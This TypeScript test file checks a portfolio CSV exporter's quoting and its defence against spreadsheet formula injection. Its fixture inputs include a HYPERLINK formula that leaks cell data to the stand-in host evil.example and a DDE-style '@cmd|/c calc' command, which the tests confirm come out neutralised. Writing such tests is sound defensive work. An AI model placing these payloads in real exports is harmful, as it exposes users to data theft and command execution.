import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildModel } from '../../src/core/build-model.ts';
import { CSV_COLUMNS, csvField, neutralize, portfolioCsv } from '../../src/core/export-csv.ts';
import { portfolio, program, project, settings } from './fixtures.ts';

const AS_OF = '2026-11-15';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd|/c calc',
  'Comma, "quoted" and\nnew line',
  'Ünïcödé — ✓',
];

function model(audience = 'internal') {
  return buildModel(
    portfolio({
      settings: settings({ fiscal_year_start: 4 }),
      programs: [program('prog', { title: 'Programme' })],
      projects: [
        project('alpha', {
          title: HOSTILE[0],
          summary: HOSTILE[4],
          sponsor: HOSTILE[1],
          owners: { business: HOSTILE[2], technical: HOSTILE[3] },
          tags: ['x', 'y'],
          program: 'prog',
          start: '2026-01-15',
          end: '2026-09-30',
          baseline_end: '2026-10-05',
          budget: { planned: 1000, forecast: 1200 },
          scores: { strategic_fit: 5, value: 4, risk: 2, effort: 3 },
        }),
        project('beta', { title: HOSTILE[5], status: 'proposed' }),
        project('gamma', { title: 'Secret', visibility: 'internal' }),
      ],
    }),
    { audience, asOf: AS_OF },
  );
}

const rows = (text: string) => parse(text, { columns: true, record_delimiter: '\r\n', relax_quotes: false }) as Record<string, string>[];

describe('csvField', () => {
  it('quotes every text cell (RFC 4180) and doubles quotes', () => {
    expect(csvField('plain')).toBe('"plain"');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField(undefined)).toBe('');
  });

  it('prefixes cells that a spreadsheet would run as a formula', () => {
    expect(neutralize('=1+1')).toBe("'=1+1");
    expect(neutralize('+1')).toBe("'+1");
    expect(neutralize('-1')).toBe("'-1");
    expect(neutralize('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutralize('\t=1')).toBe("'\t=1");
    expect(neutralize('a=1')).toBe('a=1');
    expect(csvField('=A1,B1')).toBe(`"'=A1,B1"`);
  });

  it('neutralizes a formula at the start of every piece a spreadsheet splitting on ; or , would see', () => {
    expect(csvField('Safe title;=1+1')).toBe(`"Safe title;'=1+1"`);
    expect(csvField('a, +1')).toBe(`"a, '+1"`);
    expect(csvField('x,-2+3;@SUM(A1)')).toBe(`"x,'-2+3;'@SUM(A1)"`);
    expect(csvField('line one\n=1+1')).toBe(`"line one\n'=1+1"`);
    // Fullwidth = + - @, which some spreadsheets fold to ASCII.
    expect(csvField('\uFF1D1+1;\uFF0B1;\uFF0D1;\uFF201')).toBe(`"'\uFF1D1+1;'\uFF0B1;'\uFF0D1;'\uFF201"`);
    expect(csvField('a=1; b+2')).toBe('"a=1; b+2"');
  });

  it('writes computed numbers as numbers, never prefixed', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(0.25)).toBe('0.25');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(true)).toBe('true');
  });
});

describe('portfolioCsv', () => {
  it('parses back with a header and one row per project, CRLF line ends', () => {
    const text = portfolioCsv(model());
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/"[^"]*"/g, '').split('\n').every((l, i, all) => i === all.length - 1 || l.endsWith('\r'))).toBe(true);
    const parsed = rows(text);
    expect(parsed.map((r) => r.id)).toEqual(['alpha', 'beta', 'gamma']);
    expect(Object.keys(parsed[0]!)).toEqual(CSV_COLUMNS.map((c) => c.name));
  });

  it('round-trips text exactly apart from the formula prefix', () => {
    const [alpha, beta] = rows(portfolioCsv(model()));
    expect(alpha!.title).toBe(`'${HOSTILE[0]}`);
    expect(alpha!.sponsor).toBe(`'${HOSTILE[1]}`);
    expect(alpha!.business_owner).toBe(`'${HOSTILE[2]}`);
    expect(alpha!.technical_owner).toBe(`'${HOSTILE[3]}`);
    expect(alpha!.summary).toBe(HOSTILE[4]);
    expect(beta!.title).toBe(HOSTILE[5]);
    // No unprefixed cell starts a formula.
    for (const row of rows(portfolioCsv(model()))) for (const v of Object.values(row)) expect(/^[=+@]/.test(v), v).toBe(false);
  });

  it('writes the computed columns', () => {
    const [alpha] = rows(portfolioCsv(model()));
    expect(alpha!.slip_days).toBe('-5');
    expect(alpha!.budget_planned).toBe('1000');
    expect(alpha!.budget_variance).toBe('0.2');
    expect(alpha!.program).toBe('prog');
    expect(alpha!.tags).toBe('x; y');
    expect(alpha!.rank).toBe('1');
    expect(alpha!.score).not.toBe('');
    expect(alpha!.health_budget).toBe('red');
  });

  it('respects the audience: no internal project, hidden columns empty', () => {
    const parsed = rows(portfolioCsv(model('public')));
    expect(parsed.map((r) => r.id)).toEqual(['alpha', 'beta']);
    const alpha = parsed[0]!;
    expect(alpha.budget_planned).toBe('');
    expect(alpha.budget_forecast).toBe('');
    expect(alpha.budget_variance).toBe('');
    expect(alpha.score).toBe('');
    expect(alpha.rank).toBe('1');
  });

  it('is inert when split on ; or , by a spreadsheet that ignores the quotes', () => {
    const m = buildModel(
      portfolio({
        settings: settings(),
        projects: [project('alpha', { title: 'Safe title;=1+1', summary: 'ok,+cmd|calc', tags: ['fine', '=2+2', '-1+1'], sponsor: '@x', baseline_end: '2026-10-05', end: '2026-09-30', start: '2026-01-01' })],
      }),
      { audience: 'internal', asOf: AS_OF },
    );
    const text = portfolioCsv(m);
    for (const sep of [';', ',']) {
      for (const piece of text.split(/\r\n|\n/).flatMap((l) => l.split(sep))) {
        const bare = piece.replace(/^[\s"]+/, '');
        if (/^-?\d+(\.\d+)?"?$/.test(bare.trim())) continue; // a plain number
        expect(/^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(bare), `${sep}: ${piece}`).toBe(false);
      }
    }
    expect(rows(text)[0]!.slip_days).toBe('-5');
  });

  it('is byte-identical for the same model', () => {
    expect(portfolioCsv(model())).toBe(portfolioCsv(model()));
  });
});
